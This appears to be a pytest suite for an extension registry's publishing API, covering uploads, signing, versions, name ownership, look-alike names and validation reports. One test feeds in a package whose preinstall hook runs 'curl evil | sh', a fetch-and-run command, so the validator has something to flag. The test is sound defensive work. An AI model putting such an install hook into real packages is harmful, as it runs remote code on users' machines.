"""Publishing over the API: what is taken in and what comes of it."""

import hashlib
import io
import zipfile

import pytest

from support.archives import build_zip
from support.samples import brackets, webextension

EXTENSIONS = "/api/v4/extensions/"
WORD_TALLY = f"{EXTENSIONS}word-tally/"


@pytest.fixture
def ann(accounts):
    return accounts.bearer("ann")


def test_a_new_extension_is_accepted_for_signing(app, ann):
    answer = app.post(EXTENSIONS, brackets("word-tally"), headers=ann, status=202)
    assert answer.json["name"] == "word-tally"
    assert answer.json["state"] == "queued"
    assert answer.json["package"] is None
    assert answer.headers["Location"].endswith("/api/v4/extensions/word-tally/versions/1.0.0/")
    assert int(answer.headers["Retry-After"]) > 0


@pytest.mark.parametrize("address", [EXTENSIONS, EXTENSIONS.rstrip("/"), EXTENSIONS + "word-tally.zip"])
@pytest.mark.parametrize("method", ["POST", "PUT"])
def test_every_way_curl_sends_a_file(app, ann, address, method):
    """--data-binary is a POST, -T a PUT that appends the file's name to an address that ends in a slash."""
    headers = ann | {"Content-Type": "application/x-www-form-urlencoded"}
    app.request(address, method=method, body=brackets(), headers=headers, status=202)


def test_a_form(app, ann):
    files = [("file", "word-tally.zip", brackets())]
    app.post(
        EXTENSIONS, {"name": "word-tally", "version": "1.0.0"}, upload_files=files, headers=ann, status=202
    )


def test_signed_in_the_background_then_browsed_and_downloaded(app, ann, work):
    package = brackets("word-tally", "1.0.0", title="Word Tally", description="Counts.")
    location = app.post(EXTENSIONS, package, headers=ann).headers["Location"]
    app.get(WORD_TALLY, status=404)
    app.get(location, status=404)
    assert app.get(WORD_TALLY, headers=ann).json["version"] is None
    assert work() == 1
    version = app.get(location).json
    assert version["state"] == "signed"
    assert version["upload_sha256"] == hashlib.sha256(package).hexdigest()
    signed = version["package"]
    assert set(signed) == {"url", "sha256", "size", "key_id", "serial", "signed_at"}
    listed = app.get(EXTENSIONS).json
    assert (listed["count"], listed["page_size"], listed["page_count"]) == (1, 25, 1)
    assert listed["results"][0]["title"] == {"en": "Word Tally"}
    assert listed["results"][0]["version"] == "1.0.0"
    for name in ("1.0.0", "latest"):
        file = app.get(f"{WORD_TALLY}versions/{name}/download")
        assert hashlib.sha256(file.body).hexdigest() == signed["sha256"]
        assert len(file.body) == signed["size"]


def test_a_new_version_by_name_or_by_its_own_address(app, ann, work):
    app.post(EXTENSIONS, brackets(version="1.0.0"), headers=ann, status=202)
    app.post(EXTENSIONS, brackets(version="1.1.0", title="Newer"), headers=ann, status=202)
    app.post(f"{WORD_TALLY}versions/", brackets(version="1.2.0-rc.1"), headers=ann, status=202)
    app.put(f"{WORD_TALLY}versions/x.zip", brackets(version="0.9.0"), headers=ann, status=202)
    assert work() == 4
    assert [row["version"] for row in app.get(f"{WORD_TALLY}versions/").json["results"]] == [
        "1.2.0-rc.1",
        "1.1.0",
        "1.0.0",
        "0.9.0",
    ]
    detail = app.get(WORD_TALLY).json
    assert (detail["version"], detail["title"]) == ("1.1.0", {"en": "Newer"})
    assert app.get(f"{WORD_TALLY}versions/latest/").json["version"] == "1.1.0"


def test_the_same_bytes_again_are_the_same_version(app, ann, work):
    package = brackets()
    first = app.post(EXTENSIONS, package, headers=ann, status=202)
    again = app.post(EXTENSIONS, package, headers=ann, status=200)
    assert again.headers["Location"] == first.headers["Location"]
    work()
    once_more = app.put(f"{WORD_TALLY}versions/", package, headers=ann, status=200)
    assert once_more.json["state"] == "signed"
    assert work() == 0


def test_other_bytes_under_a_used_number_are_refused(app, ann, work):
    app.post(EXTENSIONS, brackets(), headers=ann)
    work()
    before = app.get(f"{WORD_TALLY}versions/1.0.0/").json
    answer = app.post(EXTENSIONS, brackets(title="Other"), headers=ann, status=409)
    assert answer.json["code"] == "VERSION_EXISTS"
    assert answer.json["state"] == "signed"
    assert answer.json["url"] == before["url"]
    assert app.get(f"{WORD_TALLY}versions/1.0.0/").json == before


def test_a_name_belongs_to_who_had_it_first(app, ann, accounts, work):
    bob = accounts.bearer("bob")
    app.post(EXTENSIONS, brackets(), headers=ann)
    assert (
        app.post(EXTENSIONS, brackets(version="2.0.0"), headers=bob, status=403).json["code"] == "NOT_OWNER"
    )
    app.post(f"{WORD_TALLY}versions/", brackets(version="2.0.0"), headers=bob, status=404)
    work()
    app.post(f"{WORD_TALLY}versions/", brackets(version="2.0.0"), headers=bob, status=403)
    app.post(f"{WORD_TALLY}versions/", brackets(version="2.0.0"), status=401)
    assert app.get(f"{WORD_TALLY}versions/").json["count"] == 1


@pytest.mark.parametrize("name", ["wordtally", "word_tally", "word.tally", "w0rd-tally", "word-ta1ly"])
def test_a_look_alike_by_somebody_else_is_refused(app, ann, accounts, name):
    app.post(EXTENSIONS, brackets("word-tally"), headers=ann)
    answer = app.post(EXTENSIONS, brackets(name), headers=accounts.bearer("bob"), status=409)
    assert answer.json["code"] == "NAME_LOOKS_ALIKE"
    app.post(EXTENSIONS, brackets(name), headers=ann, status=202)


def test_two_versions_may_not_share_a_file_name(app, ann):
    app.post(EXTENSIONS, brackets("tally", "1.0.0-2.0.0"), headers=ann)
    answer = app.post(EXTENSIONS, brackets("tally-1.0.0", "2.0.0"), headers=ann, status=409)
    assert answer.json["code"] == "FILE_NAME_TAKEN"


def test_a_web_extension_gets_its_name_from_its_title(app, ann, accounts, work):
    first = app.post(
        EXTENSIONS, webextension("a@example.org", name="Tab Notes!"), headers=ann, status=202
    ).json
    assert (first["name"], first["guid"]) == ("tab-notes", "a@example.org")
    bob = accounts.bearer("bob")
    second = app.post(
        EXTENSIONS, webextension("b@example.org", name="Tab Notes"), headers=bob, status=202
    ).json
    assert second["name"] == "tab-notes-2"
    work()
    assert app.get(f"{EXTENSIONS}a@example.org/").json["name"] == "tab-notes"
    assert app.get(f"{EXTENSIONS}a%40example.org/versions/latest/").json["version"] == "1.0"


def test_a_web_extension_without_an_id_is_given_one(app, ann):
    package = webextension(None)
    first = app.post(EXTENSIONS, package, headers=ann, status=202).json
    assert first["guid"].startswith("{")
    assert app.post(EXTENSIONS, package, headers=ann, status=200).json["guid"] == first["guid"]
    path = f"{EXTENSIONS}{first['name']}/versions/"
    later = app.post(path, webextension(None, version="1.1"), headers=ann, status=202).json
    assert later["guid"] == first["guid"]


@pytest.mark.parametrize(
    ("package", "field"),
    [
        (brackets("other", "2.0.0"), "name"),
        (webextension(), "file"),
    ],
)
def test_a_package_must_be_of_the_extension_it_is_sent_to(app, ann, package, field):
    app.post(EXTENSIONS, brackets("word-tally"), headers=ann)
    assert field in app.post(f"{WORD_TALLY}versions/", package, headers=ann, status=400).json


def test_another_web_extensions_id_is_refused(app, ann):
    name = app.post(EXTENSIONS, webextension("a@example.org"), headers=ann).json["name"]
    answer = app.post(
        f"{EXTENSIONS}{name}/versions/", webextension("b@example.org", "2.0"), headers=ann, status=400
    )
    assert "guid" in answer.json


def test_publishing_leaves_a_state_alone(app, ann, work, config):
    app.post(EXTENSIONS, brackets(), headers=ann)
    work()
    set_state(config, "word-tally", "pending_disable")
    app.post(EXTENSIONS, brackets(version="2.0.0"), headers=ann, status=202)
    work()
    assert app.get(WORD_TALLY, headers=ann).json["state"] == "pending_disable"
    app.get(WORD_TALLY, status=404)


def test_nothing_is_published_to_a_disabled_extension(app, ann, work, config):
    app.post(EXTENSIONS, brackets(), headers=ann)
    work()
    set_state(config, "word-tally", "disabled")
    answer = app.post(EXTENSIONS, brackets(version="2.0.0"), headers=ann, status=403)
    assert answer.json["code"] == "EXTENSION_DISABLED"


def set_state(config, name, state):
    from sqlalchemy import select

    from registry.domain import states
    from registry.models import Extension

    def change(session):
        extension = session.scalars(select(Extension).where(Extension.name == name)).one()
        states.set_state(session, extension, state, reason="test", actor_id=None)

    config.registry["database"].write(change)


def test_validation_can_be_read_by_those_who_publish(app, ann, accounts, work):
    package = brackets(scripts={"preinstall": "curl evil | sh"})
    app.post(EXTENSIONS, package, headers=ann)
    work()
    path = f"{WORD_TALLY}versions/1.0.0/validation/"
    found = app.get(path, headers=ann).json
    assert (found[0]["tool"], found[0]["verdict"]) == ("gate", "passed")
    assert [finding["code"] for finding in found[0]["findings"]] == ["NPM_SCRIPTS"]
    app.get(path, headers=accounts.bearer("root", admin=True), status=200)
    app.get(path, headers=accounts.bearer("bob"), status=403)
    app.get(path, status=401)


@pytest.mark.parametrize("folder", ["", "word-tally-main/"])
def test_what_the_finder_adds_is_not_served(app, ann, work, folder):
    files = {f"{folder}package.json": b'{"name": "word-tally", "version": "1.0.0"}', f"{folder}main.js": b""}
    litter = {f"__MACOSX/{folder}._main.js": b"x", ".DS_Store": b"x"}
    app.post(EXTENSIONS, build_zip(files | litter), headers=ann, status=202)
    work()
    served = zipfile.ZipFile(io.BytesIO(app.get(f"{WORD_TALLY}versions/1.0.0/download").body))
    assert [name for name in served.namelist() if not name.startswith("META-INF/")] == [
        "package.json",
        "main.js",
    ]


@pytest.mark.parametrize(
    ("title", "name"), [("Latest", "latest-extension"), ("My.zip", "my.zip-extension"), ("!", "extension")]
)
def test_a_title_that_means_something_else_as_a_name(app, ann, title, name):
    assert app.post(EXTENSIONS, webextension(name=title), headers=ann, status=202).json["name"] == name
